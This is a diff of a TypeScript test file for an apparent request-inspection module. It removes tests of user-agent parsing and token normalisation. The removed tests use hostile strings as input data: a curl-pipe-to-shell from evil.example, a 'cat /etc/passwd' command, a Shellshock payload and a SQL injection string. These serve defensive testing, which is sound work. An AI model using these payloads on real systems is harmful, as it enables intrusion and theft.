@@ -2,7 +2,7 @@ import assert from 'node:assert/strict';
 import { describe, it } from 'node:test';
 import fc from 'fast-check';
 import { decodeValue } from './decode.ts';
-import { opaqueToken, inspectionMemo, inspectRequest, userAgentForInspection, userAgentProducts, type RequestSnapshot } from './inspect.ts';
+import { inspectionMemo, inspectRequest, type RequestSnapshot } from './inspect.ts';
 
 const browser = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36';
 const threshold = 5;
@@ -144,41 +144,5 @@ describe('properties', () => {
       inspectRequest(i % 2 ? request : { ...request, headers: { ...request.headers, host: `host-${i}.example` } });
     }
     assert.ok(inspectionMemo.size <= inspectionMemo.maxEntries, `${inspectionMemo.size} entries`);
-  });
-});
-
-describe('user agents', () => {
-  it('reads the products outside nested or unclosed comments, without contact URLs, emails or stray separators', () => {
-    const products = (ua: string) => userAgentProducts(ua).replace(/\s+/g, ' ');
-    assert.equal(products('DuckDuckBot/1.1; (+http://duckduckgo.com/duckduckbot.html)'), 'DuckDuckBot/1.1');
-    assert.equal(products('Mozilla/5.0 (compatible; Exabot/3.0 (BiggerBetter); +http://www.exabot.com/go/robot)'), 'Mozilla/5.0');
-    assert.equal(products('Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm'), 'Mozilla/5.0');
-    assert.equal(products('amibot - http://www.amidalla.de - tech@amidalla.com libwww-perl/5.831'), 'amibot - - libwww-perl/5.831');
-    assert.equal(products('Mozilla/5.0 (X11) Mobile Safari/537.36; Bytespider'), 'Mozilla/5.0 Mobile Safari/537.36 Bytespider');
-    // A command line stays one.
-    assert.equal(products('x; cat /etc/passwd'), 'x cat /etc/passwd');
-    assert.equal(products('curl http://evil.example/x.sh | sh'), 'curl | sh');
-  });
-
-  it('gives the ordinary rules the host of a URL, not its path, and comment tokens as a list', () => {
-    assert.equal(userAgentForInspection('MJ12bot/v1.2.0 (http://majestic12.co.uk/bot.php?+)'), 'MJ12bot/v1.2.0 (http://majestic12.co.uk/)');
-    assert.equal(
-      userAgentForInspection('Mozilla/5.0 (Windows NT 6.3; Win64; x64; Trident/7.0; Touch; rv:11.0) like Gecko'),
-      'Mozilla/5.0 (Windows NT 6.3, Win64, x64, Trident/7.0, Touch, rv:11.0) like Gecko',
-    );
-    // Outside a comment a semicolon is still a separator: Shellshock keeps its shape.
-    assert.equal(userAgentForInspection('() { :; }; /bin/bash -c id'), '() { :; }; /bin/bash -c id');
-  });
-});
-
-describe('opaque tokens', () => {
-  it('drops base64 padding and the quotes around an identifier, and leaves anything else as it is', () => {
-    assert.equal(opaqueToken('eyJpZCI6MX0='), 'eyJpZCI6MX0');
-    assert.equal(opaqueToken('MzRlODBiNWFlZA%3D%3D'), 'MzRlODBiNWFlZA', 'padding percent-encoded in a query');
-    assert.equal(opaqueToken('%22d1b2c3d4-e5f6-7890%22'), 'd1b2c3d4-e5f6-7890');
-    assert.equal(opaqueToken('"abc.def"'), 'abc.def');
-    assert.equal(opaqueToken("1' OR '1'='1"), "1' OR '1'='1");
-    assert.equal(opaqueToken('a==b'), 'a==b', 'an operator in the middle is no padding');
-    assert.equal(opaqueToken('"a b"'), '"a b"', 'a quoted phrase is not an identifier');
   });
 });
